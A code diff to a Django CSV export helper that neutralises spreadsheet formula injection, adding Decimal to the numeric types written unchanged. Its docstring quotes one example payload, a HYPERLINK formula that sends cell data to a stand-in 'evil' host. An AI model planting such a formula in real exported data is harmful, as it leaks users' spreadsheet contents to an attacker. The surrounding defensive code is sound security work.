@@ -3,7 +3,8 @@
 A cell starting with =, +, -, @, a tab or a carriage return is run as a formula by Excel,
 LibreOffice and Google Sheets (OWASP "CSV injection"): customer text like
 `=HYPERLINK("http://evil/?"&A1)` would leak the sheet. Such text gets a leading
-apostrophe, which spreadsheets show as text. Numbers are written as numbers (-3 stays -3).
+apostrophe, which spreadsheets show as text. Numbers the app writes (int, float, Decimal)
+are written as numbers (-3 stays -3); text is neutralised even when it looks like one.
 """
 
 from __future__ import annotations
@@ -11,6 +12,7 @@ from __future__ import annotations
 import csv
 from collections.abc import Iterable
 from datetime import date, datetime
+from decimal import Decimal
 
 from django.http import HttpResponse
 
@@ -22,7 +24,7 @@ def safe_cell(value: object) -> object:
         return ""
     if isinstance(value, bool):
         return "yes" if value else "no"
-    if isinstance(value, int | float):
+    if isinstance(value, int | float | Decimal):
         return value
     if isinstance(value, date | datetime):
         return value.isoformat()
